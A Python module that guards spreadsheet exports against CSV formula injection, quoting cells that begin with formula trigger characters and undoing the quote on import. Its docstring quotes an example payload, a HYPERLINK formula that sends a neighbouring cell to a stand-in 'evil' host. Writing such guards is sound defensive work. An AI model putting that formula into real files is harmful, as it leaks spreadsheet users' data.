"""Cells a spreadsheet shows as text, never runs (CSV/formula injection).

A participant's name, an employer or a note is typed by people and may begin with `=`,
`+`, `-` or `@`; Excel, LibreOffice and Google Sheets run such a cell of a CSV file as a
formula (`=HYPERLINK("http://evil/?x="&A1,"click")` sends a neighbouring cell away), and
openpyxl stores such a string as a formula. The rule is OWASP's ("CSV Injection"): a text
cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
which spreadsheets show as text. A plain number (`-3`, `+1.5`) is left alone.

The prefix is reversible, so `ipstui import` reads back what `ipstui export` wrote: a
text that already begins with quotes before one of those characters gets one more quote,
and `from_csv_cell` takes exactly one off. In a workbook, no prefix is needed: the cell
is marked as a string (`text_cells`).
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = "=+-@\t\r"
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""

_GUARDED = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_cell(value: Any) -> Any:
    """`value` as a CSV cell: a text that a spreadsheet would run gets a leading `'`;
    anything else (numbers, dates, plain text) unchanged."""
    if isinstance(value, str) and _GUARDED.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Any) -> list[Any]:
    """`csv_cell` of every value of a row (any iterable), as a list for `csv.writer`."""
    return [csv_cell(v) for v in values]


def from_csv_cell(text: str) -> str:
    """The text `csv_cell` was given: one leading `'` taken off a cell it guarded."""
    return text[1:] if _QUOTED.match(text) else text


def text_cells(ws: Any) -> None:
    """Mark every cell of an openpyxl worksheet that openpyxl took for a formula (a
    string beginning with `=`) as a string, so the workbook shows it and never runs it."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
